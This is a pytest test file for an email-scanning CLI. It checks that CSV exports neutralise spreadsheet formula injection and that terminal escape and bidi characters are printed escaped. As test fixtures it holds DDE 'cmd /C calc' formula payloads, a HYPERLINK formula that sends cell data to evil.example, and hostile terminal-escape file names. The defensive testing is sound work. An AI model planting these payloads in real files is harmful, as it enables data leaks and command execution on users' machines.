"""Untrusted text meets the user's tools: spreadsheets (CSV formula injection) and terminals."""

from __future__ import annotations

import csv
import gzip
import json

import pandas as pd
import pytest
from click.testing import CliRunner
from scored_tables import conversation

from frictionscan.cli import cli
from frictionscan.io import csv_formula_guard_default, read_table, write_table

#: Cells a spreadsheet would run as formulas, as found in hostile mail.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9) we are disappointed", "\t=1+2", "\r=1+2"]
DANGER = ("=", "+", "-", "@", "\t", "\r")


def invoke(*args: str):
    return CliRunner().invoke(cli, list(args))


def csv_cells(path) -> list[list[str]]:
    opener = gzip.open if str(path).endswith(".gz") else open
    with opener(path, "rt", encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def risky_cells(path) -> list[str]:
    """Cells a spreadsheet would run as a formula (a plain number such as -1.5 is just a number)."""
    return [c for row in csv_cells(path) for c in row if c.startswith(DANGER) and not _number(c)]


def text_frame() -> pd.DataFrame:
    # ("'=x" already starts with a quote: it must survive the round trip too)
    texts = [*FORMULAS, "'=x", "''@y", "'tis fine", "plain", None]
    n = len(texts)
    return pd.DataFrame({
        "message_id": [f"m{i}" for i in range(n)],
        "text": pd.Series(texts, dtype="string"),
        "sender_name": pd.Series(["@attacker"] + ["Ann"] * (n - 1), dtype="string"),
        "delta": [-1.5] * n,          # negative numbers are numbers, never text
        "count": list(range(-n, 0)),
    })


@pytest.mark.parametrize("suffix", ["csv", "csv.gz"])
def test_csv_output_neutralises_formula_cells_and_reads_back_the_exact_text(tmp_path, suffix):
    df = text_frame()
    path = write_table(df, tmp_path / f"t.{suffix}")
    assert risky_cells(path) == []
    rows = csv_cells(path)
    header = rows[0]
    text_col = [r[header.index("text")] for r in rows[1:]]
    assert text_col[0] == "'" + FORMULAS[0]
    assert text_col[FORMULAS.index("@SUM(A1:A9) we are disappointed")] == "'@SUM(A1:A9) we are disappointed"
    assert text_col[-2] == "plain"  # ordinary text is left alone
    assert {r[header.index("delta")] for r in rows[1:]} == {"-1.5"}
    assert [r[header.index("count")] for r in rows[1:]] == [str(v) for v in df["count"]]
    back = read_table(path)
    assert back["text"].tolist()[:-1] == df["text"].tolist()[:-1]
    assert back["sender_name"].tolist() == df["sender_name"].tolist()
    assert back["delta"].tolist() == df["delta"].tolist()
    assert back["count"].tolist() == df["count"].tolist()


@pytest.mark.parametrize("fmt", ["parquet", "jsonl"])
def test_parquet_and_json_lines_keep_the_raw_text(tmp_path, fmt):
    df = text_frame()
    path = write_table(df, tmp_path / f"t.{fmt}")
    if fmt == "jsonl":
        assert "'=HYPERLINK" not in path.read_text("utf-8")
    assert read_table(path)["text"].tolist()[:-1] == df["text"].tolist()[:-1]


def test_the_guard_can_be_turned_off(tmp_path):
    df = text_frame()
    a = write_table(df, tmp_path / "a.csv", csv_formula_guard=False)
    with csv_formula_guard_default(False):
        b = write_table(df, tmp_path / "b.csv")
    c = write_table(df, tmp_path / "c.csv")  # the context manager restored the default
    assert len(risky_cells(a)) == len(FORMULAS) + 1  # (the @attacker sender name)
    assert a.read_bytes() == b.read_bytes()
    assert risky_cells(c) == []


def _hostile_rows(path):
    return conversation(path, 6, relationship='=HYPERLINK("http://evil.example","acme")',
                        texts=("=1+2 you failed us again.", "=cmd|' /C calc'!A0 I will send it by Friday."))


@pytest.mark.parametrize("command", ["health", "commitments"])
def test_health_and_commitments_csv_are_neutralised_unless_raw_csv(tmp_path, command):
    scored = _hostile_rows(tmp_path / "scored.parquet")
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    res = invoke(command, str(scored), "-o", str(safe))
    assert res.exit_code == 0, res.output
    res = invoke(command, str(scored), "--raw-csv", "-o", str(raw))
    assert res.exit_code == 0, res.output
    assert risky_cells(safe) == []
    assert any(c.startswith("=HYPERLINK") for c in risky_cells(raw))
    assert read_table(safe)["relationship"].tolist() == read_table(raw)["relationship"].tolist()


def test_scan_csv_is_neutralised_and_health_reads_it_back(fake_scorer, tmp_path):
    box = tmp_path / "hostile.mbox"
    box.write_text(
        "From x Mon Mar  4 10:00:00 2024\nMessage-ID: <a@client.example>\n"
        "From: \"@SUM(1)\" <ann@client.example>\nTo: bob@ourco.example\n"
        "Subject: =HYPERLINK(\"http://evil.example\",\"click\")\n"
        "Date: Mon, 4 Mar 2024 10:00:00 +0000\n\n-2+3+cmd|' /C calc'!A0\n\n")
    safe, raw, pq = tmp_path / "s.csv", tmp_path / "r.csv", tmp_path / "s.parquet"
    for out, extra in ((safe, []), (raw, ["--raw-csv"]), (pq, [])):
        res = invoke("scan", str(box), "--internal-domain", "ourco.example", "-o", str(out),
                     "-j", "1", "-q", *extra)
        assert res.exit_code == 0, res.output
    assert risky_cells(safe) == []
    assert any(c.startswith("=HYPERLINK") for c in risky_cells(raw))
    want = read_table(pq)
    got = read_table(safe)
    for col in ("subject", "text", "sender_name"):
        assert got[col].tolist() == want[col].tolist()
    assert want["subject"].iloc[0].startswith("=HYPERLINK")


# ----------------------------------------------------------------------------------------------
# terminal escapes in what the commands print

HOSTILE_NAMES = ["a\x1b]0;pwned\x07.eml", "invoice\u202egpj.eml", "b\x1b[2Jc.eml", "cr\rfake.eml"]


def test_count_report_and_warnings_show_control_and_bidi_characters_escaped(capsys):
    from frictionscan.cli import _print_summary
    from frictionscan.parallel import ScanReport, SourceCounts

    report = ScanReport(output="s\x1b]0;x\x07.csv", rows=4, totals={"ok": 4},
                        sources=[SourceCounts(n, expected=1, rows=1, ok=1) for n in HOSTILE_NAMES])
    _print_summary(report, as_json=False, warnings=["Warning: domain evil\u202ecom\x1b[31m"])
    out, err = capsys.readouterr()
    for text in (out, err):
        assert not any(c in text for c in "\x1b\x07\r\u202e"), repr(text)
    assert "a\\x1b]0;pwned\\x07.eml" in out and "invoice\\u202egpj.eml" in out
    assert "cr\\x0dfake.eml" in out and "evil\\u202ecom\\x1b[31m" in err


def test_scan_of_hostile_file_names_prints_them_escaped(fake_scorer, tmp_path):
    folder = tmp_path / "mail"
    folder.mkdir()
    for i, name in enumerate(HOSTILE_NAMES):
        (folder / name).write_text(
            f"Message-ID: <m{i}@client.example>\nFrom: ann@client.example\nTo: bob@ourco.example\n"
            f"Subject: hi\nDate: Mon, 4 Mar 2024 10:00:00 +0000\n\nStill waiting.\n")
    res = invoke("scan", str(folder), "--internal-domain", "ourco.example", "-o",
                 str(tmp_path / "s.csv"), "-j", "1")
    assert res.exit_code == 0, res.output
    assert not any(c in res.output for c in "\x1b\x07\r\u202e"), repr(res.output)
    assert "invoice\\u202egpj.eml" in res.output


def test_error_lines_escape_control_characters_in_names(tmp_path):
    bad = tmp_path / "x\x1b]0;pwned\x07.mbox"
    bad.write_text("x")
    res = invoke("health", str(bad), "-o", str(tmp_path / "h.csv"))
    assert res.exit_code == 1 and "\x1b" not in res.output and "\x07" not in res.output


# ----------------------------------------------------------------------------------------------
# transcripts without --internal-speaker

VTT = ("WEBVTT\n\n00:00:01.000 --> 00:00:04.000\n<v Dana Whitlock>Thanks for joining, I will send "
       "the plan by Friday.\n\n00:00:05.000 --> 00:00:09.000\n<v Lee Park>We are still waiting on "
       "the export you promised.\n")


@pytest.mark.parametrize("speakers, warned", [
    ([], "pass --internal-speaker NAME"),
    (["Nobody Here"], "none outbound: none of --internal-speaker 'Nobody Here' matched"),
    (["Dana Whitlock"], None),
])
def test_transcripts_without_direction_warn_to_pass_internal_speaker(fake_scorer, tmp_path,
                                                                      speakers, warned):
    call = tmp_path / "Acme sync 2025-03-12.vtt"
    call.write_text(VTT)
    args = ["scan", str(call), "--relationship", "Acme", "-o", str(tmp_path / "s.parquet"), "-j", "1"]
    for s in speakers:
        args += ["--internal-speaker", s]
    res = CliRunner().invoke(cli, args)
    assert res.exit_code == 0, res.output
    lines = [ln for ln in res.stderr.splitlines() if "transcript or chat" in ln]
    if warned is None:
        assert lines == [], res.stderr
        assert read_table(tmp_path / "s.parquet")["direction"].notna().all()
    else:
        assert len(lines) == 1 and warned in lines[0] and "all 2 transcript" in lines[0]
        res = CliRunner().invoke(cli, [*args, "--json"])
        assert any(warned in w for w in json.loads(res.stdout)["warnings"])


# ----------------------------------------------------------------------------------------------
# report


def test_report_writes_one_self_contained_html_page(tmp_path):
    scored = _hostile_rows(tmp_path / "scored.parquet")
    out = tmp_path / "r.html"
    res = invoke("report", str(scored), "-o", str(out), "--freq", "D", "--no-plots",
                 "--title", "Q1 <accounts>")
    assert res.exit_code == 0, res.output
    page = out.read_text("utf-8")
    assert page.lstrip().lower().startswith("<!doctype html>")
    assert "Q1 &lt;accounts&gt;" in page and "<script" not in page.lower()
    assert f"Wrote {out}" in res.output and "Read 6 messages: 6 used." in res.output
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".r.html")] == []


def test_report_mistakes_are_one_error_line(tmp_path):
    for args in (["report", str(tmp_path / "none.parquet"), "-o", str(tmp_path / "r.html")],
                 ["report", str(_hostile_rows(tmp_path / "s.parquet")), "-o",
                  str(tmp_path / "no" / "r.html")],
                 ["report", str(tmp_path / "s.parquet"), "--freq", "fortnightly", "-o",
                  str(tmp_path / "r.html")]):
        res = invoke(*args)
        assert res.exit_code != 0 and "Traceback" not in res.output
        assert sum(ln.startswith("Error:") for ln in res.output.splitlines()) == 1, res.output
    assert not (tmp_path / "r.html").exists()
